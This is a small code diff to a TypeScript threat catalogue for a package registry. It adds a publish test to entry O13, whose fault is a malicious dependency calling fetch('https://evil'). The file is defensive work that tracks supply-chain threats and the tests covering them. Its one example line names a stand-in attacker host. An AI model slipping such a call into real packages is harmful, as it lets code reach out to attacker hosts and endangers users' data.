@@ -108,7 +108,13 @@ export const ops: CatalogueRow[] = [
     // Publishing does not search bundles for new hosts: SECURITY.md.
     id: 'O13',
     fault: "malicious dependency calls fetch('https://evil')",
-    proof: drill,
+    proof: [
+      drill,
+      {
+        test: 'platform/registry/src/publish.test.ts',
+        name: 'a publish lists the hosts that the live version does not name, and comparing two versions, too',
+      },
+    ],
   },
   {
     id: 'O15',
